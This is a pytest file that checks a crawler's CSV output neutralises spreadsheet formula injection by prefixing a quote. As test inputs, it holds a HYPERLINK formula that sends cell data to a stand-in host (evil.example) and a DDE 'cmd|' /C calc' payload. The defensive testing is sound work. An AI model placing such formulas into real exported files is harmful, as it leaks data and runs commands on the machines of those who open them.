"""CSV output neutralises cells a spreadsheet would run as formulas (OWASP: prefix a quote)."""

from __future__ import annotations

import csv

import pytest
from werkzeug import Response

from crawler.sinks import spreadsheet_safe
from tests.support.helpers import run_crawl

pytestmark = pytest.mark.timeout(60)

EVIL_TITLE = '=HYPERLINK("http://evil.example/?"&A1,"Click")'


def scrape_formulas(page):
    """Items whose values (and one key) start like formulas; numbers stay numbers."""
    yield {"@key": "+1+1", "cmd": "-2+3+cmd|' /C calc'!A0", "n": -5, "tab": "\t=1", "cr": "\r=1"}


def test_titles_and_items_starting_like_formulas_are_made_text(httpserver, tmp_path):
    httpserver.expect_request("/p").respond_with_response(
        Response(f"<title>{EVIL_TITLE}</title>", content_type="text/html")
    )
    records_csv, items_csv = tmp_path / "records.csv", tmp_path / "items.csv"
    run_crawl(
        [httpserver.url_for("/p")],
        parse=scrape_formulas,
        output=str(records_csv),
        items_output=str(items_csv),
    )
    (row,) = list(csv.DictReader(records_csv.open(encoding="utf-8", newline="")))
    assert row["title"] == "'" + EVIL_TITLE
    assert row["url"].startswith("http://")  # ordinary cells are untouched
    rows = list(csv.reader(items_csv.open(encoding="utf-8", newline="")))
    assert rows[0] == ["'@key", "cmd", "n", "tab", "cr"]
    assert rows[1] == ["'+1+1", "'-2+3+cmd|' /C calc'!A0", "-5", "'\t=1", "'\r=1"]


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
def test_every_formula_start_is_prefixed(start):
    assert spreadsheet_safe(start + "x") == "'" + start + "x"
    assert spreadsheet_safe("x" + start) == "x" + start
    assert spreadsheet_safe(-1) == -1
